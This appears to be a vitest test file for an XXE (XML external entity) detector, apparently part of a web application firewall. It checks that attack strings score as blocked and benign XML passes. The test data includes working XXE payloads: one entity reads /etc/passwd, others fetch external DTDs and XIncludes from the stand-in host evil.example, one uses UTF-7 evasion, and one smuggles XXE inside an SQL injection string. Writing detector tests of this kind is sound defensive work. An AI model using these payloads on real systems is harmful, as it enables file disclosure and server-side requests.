import { beforeAll, describe, expect, it } from "vitest";
import fc from "fast-check";
import { loadHarness, type Harness } from "../support/harness.js";

const ARG = 2;
const BODY = 8;
let h: Harness;
beforeAll(async () => {
  h = await loadHarness();
});

function xxe(input: string, kind = BODY): { score: number; ids: number[] } {
  const out = JSON.parse(h.callString("detectOne", "xxe", input, kind, "body", 1));
  return { score: out.score, ids: out.ids.map((m: { id: number }) => m.id) };
}

const attacks: [string, number][] = [
  ['<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>', 14001],
  ['<!DOCTYPE x [ <!ENTITY % y SYSTEM "//y/y" > %y; ]><x>a</x>', 14001],
  ['<!DOCTYPE x [<!ENTITY % xxe PUBLIC "any_text" "http://evil.example/evil.dtd">%xxe;]><root/>', 14001],
  ["foo!ENTITY % bar SYSTEM", 14001],
  ['<!DOCTYPE x SYSTEM "//x/x" > <x>a</x>', 14002],
  ['<!DOCTYPE note PUBLIC "-//EVIL//DTD" "http://evil.example/x.dtd"><note/>', 14002],
  ['<acp xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="http://evil.example/foo"/></acp>', 14003],
  ['<x xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://evil.example/"/>', 14004],
  ['<?xml version="1.0" encoding="UTF-7"?>\n+ADwAIQ-DOCTYPE foo+AFs', 14005],
];

const benign: string[] = [
  '<?xml version="1.0" encoding="UTF-8"?><order><id>1</id></order>',
  "<!DOCTYPE html><html><body>hi</body></html>",
  '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html/>',
  '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body/></soapenv:Envelope>',
  "Hello! Entity framework is great: use SYSTEM tables.",
];

describe("xxe detector", () => {
  it.each(attacks)("blocks %j (rule %i)", (input, rule) => {
    const r = xxe(input);
    expect(r.ids).toContain(rule);
    expect(r.score).toBeGreaterThanOrEqual(5);
  });

  it("finds a DTD inside an argument value too", () => {
    expect(xxe("x'||(select extractvalue(xmltype('<?xml version=\"1.0\"?><!DOCTYPE root [ <!ENTITY % a SYSTEM \"http://e/\">%a;", ARG).ids).toContain(14001);
  });

  it.each(benign)("lets %j through", (input) => {
    expect(xxe(input).score).toBeLessThan(5);
  });

  it("never traps on random input", () => {
    const alphabet = fc.constantFrom(..."<!>?%[]\"' ENTITYDOCTYPESYSTEMPUBLICxi:includeschemaLocation=http://".split(""));
    fc.assert(fc.property(fc.array(alphabet, { maxLength: 400 }).map((a) => a.join("")), (s) => {
      expect(xxe(s).score).toBeGreaterThanOrEqual(0);
    }), { numRuns: 300 });
  });
});
